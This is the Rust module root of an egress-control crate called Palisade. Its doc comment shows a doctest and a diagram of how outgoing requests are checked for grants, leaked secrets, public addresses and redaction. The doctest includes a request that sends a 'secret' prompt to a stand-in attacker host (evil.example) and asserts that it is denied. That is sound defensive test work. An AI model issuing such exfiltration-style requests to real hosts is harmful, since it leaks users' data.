//! The only code of Palisade that opens an outgoing connection, and the policy that it keeps.
//!
//! ```
//! use std::sync::Arc;
//!
//! use palisade_core::{
//!     Scope,
//!     http::{Client, Error, Method, Request, Traffic},
//! };
//! use palisade_egress::{Credential, Egress, Grant, Grants, Network, Place, Settings};
//!
//! # #[tokio::main(flavor = "current_thread")]
//! # async fn main() -> palisade_core::Result<()> {
//! // What the operator grants to a provider. The secret goes no further than into a request to this address.
//! let secret = Some("sk-0123456789".into());
//! let credential = Credential::new("api-key", Place::Header("authorization".into()), "Bearer {}", secret)?;
//! let grant = Grant { credential: Some(credential), ..Grant::new("https://api.example.com/v1/*") };
//! let grants = Arc::new(Grants::new("chat".parse().unwrap(), [grant])?);
//!
//! // One way out for the host; a client of it for each call.
//! let egress = Egress::new(Settings::default(), Network::default())?;
//! let traffic = Arc::new(Traffic::default());
//! let client = egress.client(grants, Scope::new("tenant-a"), traffic.clone());
//!
//! let elsewhere = Request::new(Method::Get, "https://evil.example/?prompt=secret");
//! assert!(matches!(client.send(elsewhere).await, Err(Error::Denied(_))));
//! assert_eq!(client.has_credential("api-key"), Some(true));
//! assert_eq!(traffic.requests(), 0);
//! # Ok(())
//! # }
//! ```
//!
//! # The way of a request
//!
//! Each step can only refuse, and nothing leaves before the last of those that judge. It is one function,
//! `client::Client::pass`, and nobody connects past it.
//!
//! ```text
//! Request ─► place      so many requests of a call, so many at one time, so many bytes of them under way
//!         ─► target     the address, read once; what can be read in two ways is refused
//!         ─► grants     scheme, host, port, path, method, credential: by a rule of the operator's, or not at all
//!         ─► parameter  none that says who asks
//!         ─► rate       so many requests in so much time
//!         ─► header     none that says who asks, none of the connection
//!         ─► leak       no secret in address, headers and body; a call in which there is one sends nothing more
//!         ─► resolve    every address of the host is public, or the operator named the socket
//!         ─► inject     the credential, into what is written and nowhere else
//!         ─► pool       a kept connection of the same scope, provider, credential, host and addresses, or
//!            connect    a new one, of so many that a host has, to the very address that was checked, and
//!            tls        with a certificate for the host
//!         ─► wire       HTTP/1.1, each phase within its time, all of it within the deadline
//! Response ◄ header     no sessions, no secrets; one length
//!          ◄ answer     the body in pieces: bounded, in time, and
//!            redact     without secrets, also where one is cut by the end of a piece
//! ```
//!
//! Redirects are answers, and are not followed. There are no cookies and no proxies. Answers are asked for uncompressed, and
//! refused otherwise: nobody can look for a secret in what is packed, and what is not unpacked does not grow.

mod address;
mod allowance;
mod answer;
mod client;
mod connect;
mod credential;
mod egress;
mod grants;
mod header;
mod inject;
mod leak;
mod meter;
mod moment;
mod name;
mod name_servers;
mod parameter;
mod pool;
mod rate;
mod redact;
mod resolve;
mod room;
mod rule;
mod secrets;
mod settings;
mod sockets;
mod target;
mod tls;
mod upload;
mod wire;

pub use address::is_global;
pub use client::Client;
pub use connect::{Connect, Stream};
pub use credential::{Credential, Place};
pub use egress::{Egress, Network};
pub use grants::Grants;
pub use resolve::Resolve;
pub use rule::{Grant, Rate};
pub use settings::Settings;
